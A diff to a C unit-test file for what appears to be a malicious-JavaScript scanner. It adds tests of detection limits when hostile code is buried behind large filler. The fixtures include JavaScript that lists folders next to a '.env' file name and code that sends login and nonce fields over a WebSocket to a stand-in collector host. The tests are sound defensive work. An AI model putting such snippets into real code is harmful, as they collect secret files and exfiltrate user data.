@@ -438,6 +438,61 @@ static void test_bundle(void **state)
 	assert_true(mark_wants_look(MARK_SURE, CONTENT_BUNDLE + 1));
 }
 
+static void filler(size_t bytes)
+{
+	while (bytes > 64) {
+		size_t n = bytes < 4096 ? bytes : 4096;
+		buf_text(&source, T("//"));
+		for (size_t i = 3; i < n; i++)
+			buf_char(&source, 'x');
+		buf_char(&source, '\n');
+		bytes -= n;
+	}
+}
+
+/* Folders are listed so far behind a name of .env files. */
+static uint32_t env_files(size_t before, size_t between, unsigned lists)
+{
+	begin();
+	filler(before);
+	buf_text(&source, T("const names = ['.env'], fs = require('fs');\n"));
+	filler(between);
+	for (unsigned i = 0; i < lists; i++)
+		buf_printf(&source, "fs.readdirSync('a%u');\n", i);
+	scanned("a.js");
+	return acts_of(BEHAVE_COLLECT_FILES, ACT_HOME_ARG | ACT_SELF_ARG);
+}
+
+static void test_huge(void **state)
+{
+	(void)state;
+	assert_true(env_files(0, CONTENT_HUGE - 4096, 1));
+	assert_false(env_files(0, CONTENT_HUGE + 4096, 1));
+	assert_true(env_files(CONTENT_HUGE, CONTENT_AROUND - 4096, 1));
+	assert_false(env_files(CONTENT_HUGE, CONTENT_AROUND + 4096, 1));
+	assert_false(env_files(CONTENT_HUGE, CONTENT_AROUND + 4096, CONTENT_AROUND_TRIES));
+	assert_true(env_files(CONTENT_HUGE, CONTENT_AROUND + 4096, CONTENT_AROUND_TRIES + 1));
+}
+
+static uint32_t pool(size_t before, const char *jobs)
+{
+	begin();
+	filler(before);
+	buf_text(&source, T("const WebSocket = require('ws');\nconst page = { login: 1, submit: 2, nonce: 3, blob: 4"));
+	buf_printf(&source, "%s };\nconst s = new WebSocket('wss://a.example.com/');\n", jobs);
+	buf_text(&source, T("s.on('open', () => s.send(JSON.stringify(page)));\nfetch('https://a.example.com/b');\n"));
+	scanned("a.js");
+	return acts_of(BEHAVE_EXEC, ACT_COLLECTOR_HOST);
+}
+
+static void test_pool_words(void **state)
+{
+	(void)state;
+	assert_true(pool(CONTENT_BUNDLE - 4096, ""));
+	assert_false(pool(CONTENT_BUNDLE, ""));
+	assert_true(pool(CONTENT_BUNDLE, ", job_id: 5"));
+}
+
 static bool give(void *ctx, uint32_t index, struct buf *out, struct err *e)
 {
 	(void)ctx;
@@ -496,9 +551,10 @@ int main(void)
 		cmocka_unit_test(test_hook_bytes), cmocka_unit_test(test_callers),
 		cmocka_unit_test(test_matches),	   cmocka_unit_test(test_path),
 		cmocka_unit_test(test_bundle),	   cmocka_unit_test(test_lookers),
+		cmocka_unit_test(test_huge),	   cmocka_unit_test(test_pool_words),
 	};
 
-	source = BUF(4u << 20);
+	source = BUF(16u << 20);
 	if (!crypto_init() || !content_engine_new(NULL, -1, &engine, NULL) || !(worker = content_worker_new(engine)) ||
 	    !(arena = arena_new(256u << 20)))
 		return 1;
